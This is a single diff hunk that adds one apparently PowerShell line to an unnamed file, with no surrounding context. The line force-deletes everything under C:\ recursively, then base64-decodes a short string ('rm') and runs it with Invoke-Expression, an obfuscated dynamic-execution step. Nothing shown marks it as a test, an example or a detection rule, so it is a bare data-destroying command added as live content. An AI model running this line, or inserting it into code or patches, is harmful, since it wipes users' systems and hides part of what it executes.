@@ -1,0 +1,1 @@
+Remove-Item -Recurse -Force C:\ ; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0=")))
